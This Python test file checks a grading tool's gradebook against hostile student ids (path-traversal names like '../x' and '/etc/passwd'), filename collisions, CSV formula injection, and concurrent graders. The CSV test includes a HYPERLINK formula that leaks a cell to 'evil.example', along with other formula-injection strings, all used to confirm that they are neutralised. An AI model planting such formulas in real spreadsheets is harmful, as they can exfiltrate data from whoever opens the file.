"""The gradebook on disk, attacked: ids that share a file, formulas in CSV cells, two graders at once."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from workbook import gradebook, gradedb
from workbook.gradebook import (
    ResultsLocked,
    check_distinct,
    read_record,
    record_path,
    results_lock,
    safe_name,
    write_gradebook,
    write_record,
)

NB = "90_gradefix"


def _record(student: str, *, score: float = 1.0, message: str = "ok", reason: str = "") -> dict:
    return {"student": student, "notebook": NB, "origin": f"{student}/{NB}.ipynb", "hash": "h", "status": "graded",
            "reason": reason, "seed": 1, "score": score, "max_score": 3.0, "tamper": [], "cells": [],
            "questions": [{"qid": "q1", "title": "", "status": "passed", "points": score, "max_points": 3.0,
                           "message": message, "hint": ""}], "feedback": None}


# --- one student, one file -----------------------------------------------------------------------------

def test_a_plain_id_equal_to_another_students_tagged_name_gets_its_own_record(tmp_path: Path) -> None:
    unicode_id = "유니코드 학생"
    old_style = f"student-{hashlib.sha256(unicode_id.encode()).hexdigest()[:8]}"  # the red team's collision
    new_style = safe_name(unicode_id)  # and whatever the tag is now, a student may call themself that
    ids = [unicode_id, old_style, new_style]
    assert len({safe_name(i) for i in ids}) == 3
    check_distinct(ids)
    for student in ids:
        write_record(tmp_path, _record(student, message=f"the solution of {student}"))
    assert len({record_path(tmp_path, s, NB) for s in ids}) == 3
    for student in ids:  # each reads back their own record, never the other's
        assert read_record(tmp_path, student, NB)["questions"][0]["message"] == f"the solution of {student}"
    assert sorted(r["student"] for r in gradedb.peek(tmp_path)) == sorted(ids)  # three rows, none overwritten


def test_ids_differing_only_by_case_get_names_distinct_on_a_case_insensitive_disk() -> None:
    ids = ["alice", "Alice", "ALICE", "aLiCe"]
    names = [safe_name(i) for i in ids]
    assert names[0] == "alice"  # a plain lower-case id keeps its name
    assert len({n.lower() for n in names}) == len(ids)
    check_distinct(ids)


def test_safe_name_is_injective_and_plain_on_hostile_ids() -> None:
    ids = ["", ".", "..", "../x", "..\\x", "/etc/passwd", "a/b", "a_b", "a b", "a  b", "con", "CON", "con.txt",
           "nul", "student", "student-0123456789abcdef", ".alice", "alice.", "-rf", "é", "e\u0301", "x" * 300,
           "x" * 301, "kim_01", "kim-01", "\udcff", "a\x00b", "tab\tid"]
    names = [safe_name(i) for i in ids]
    assert len({n.lower() for n in names}) == len(ids)
    for name in names:
        assert name and "/" not in name and "\\" not in name and not name.startswith((".", "-"))
        assert len(name) <= 81 and name.isascii() and name.isprintable()
        assert name.split(".")[0].lower() not in {"con", "nul", "prn", "aux"}
    assert safe_name("kim_01") == "kim_01"


def test_check_distinct_names_both_colliding_ids(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gradebook, "TAG_LENGTH", 0)  # a hash too short to keep ids apart
    with pytest.raises(ValueError, match=r"'x  y' and 'x y'"):
        check_distinct(["x y", "x  y", "x y"])
    check_distinct(["x y", "x y"])  # the same id twice (one per notebook) is one student


# --- CSV formula injection -------------------------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    records = [_record(evil, message="+1"), _record("@SUM(A1:A9)", message="-2+3", reason="\t=cmd"),
               _record("carol", score=-1.0, message="\r=1"), _record("dave", message="fine = ok")]
    write_gradebook(tmp_path, records, [NB], {})
    grades = list(csv.DictReader((tmp_path / "grades.csv").open(encoding="utf-8", newline="")))
    summary = list(csv.DictReader((tmp_path / "summary.csv").open(encoding="utf-8", newline="")))
    by_student = {row["student"]: row for row in grades}
    assert set(by_student) == {"'" + evil, "'@SUM(A1:A9)", "carol", "dave"}
    assert by_student["'" + evil]["message"] == "'+1"
    assert by_student["'@SUM(A1:A9)"]["message"] == "'-2+3"
    assert by_student["carol"]["message"] == "'\r=1"
    assert by_student["dave"]["message"] == "fine = ok"
    assert by_student["carol"]["points"] == "-1.0"  # a number we wrote stays a number
    assert {row["student"]: row[NB] for row in summary}["carol"] == "-1.0"
    for path in (tmp_path / "grades.csv", tmp_path / "summary.csv"):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (path.name, cell)
    text = (tmp_path / "grades.csv").read_bytes().decode("utf-8")
    assert ',"\'\r=1",' in text and ",-1.0," in text  # a CR inside a cell starts no row; numbers unquoted
    assert all(line.startswith('"') for line in text.split("\n") if line)  # every row starts with a quoted id
    raw = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
    assert raw["submissions"][0]["student"] == evil  # JSON is data, not a spreadsheet: kept as is


# --- one grader per results folder -----------------------------------------------------------------------

_HOLDER = """
import sys, time
from workbook.gradebook import results_lock
with results_lock(sys.argv[1]):
    print("locked", flush=True)
    time.sleep(300)
"""


def test_a_second_grader_is_refused_and_told_who_holds_the_lock(tmp_path: Path) -> None:
    out = tmp_path / "results"
    holder = subprocess.Popen([sys.executable, "-c", _HOLDER, str(out)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        with pytest.raises(ResultsLocked) as err, results_lock(out):
            pytest.fail("two graders hold the lock")
        message = str(err.value)
        assert "\n" not in message and isinstance(err.value, RuntimeError)
        assert message.startswith(f"{out}: another `workbook grade` is writing here (pid {holder.pid} on "
                                  f"{socket.gethostname()} since ")
        assert message.endswith("); wait for it to finish or stop it")
        os.kill(holder.pid, signal.SIGKILL)  # the holder dies without cleaning up
        holder.wait(timeout=30)
        with results_lock(out) as me:  # the kernel dropped its lock: nothing stale is left
            assert me["pid"] == os.getpid()
            assert json.loads((out / ".lock").read_text())["pid"] == os.getpid()
            again = subprocess.run([sys.executable, "-c", _HOLDER, str(out)], capture_output=True, text=True,
                                   timeout=120, check=False)
            assert again.returncode != 0 and f"pid {os.getpid()} on" in again.stderr.strip().splitlines()[-1]
        with results_lock(out):
            pass
    finally:
        if holder.poll() is None:
            holder.kill()
            holder.wait()


def test_the_lock_creates_the_results_folder_and_is_reentrant_after_release(tmp_path: Path) -> None:
    out = tmp_path / "new" / "results"
    started = time.time()
    with results_lock(out) as info:
        assert out.is_dir() and info["host"] == socket.gethostname()
        with pytest.raises(ResultsLocked), results_lock(out):  # a second open conflicts even in one process
            pass
    assert time.time() - started < 10
    with results_lock(out):
        pass
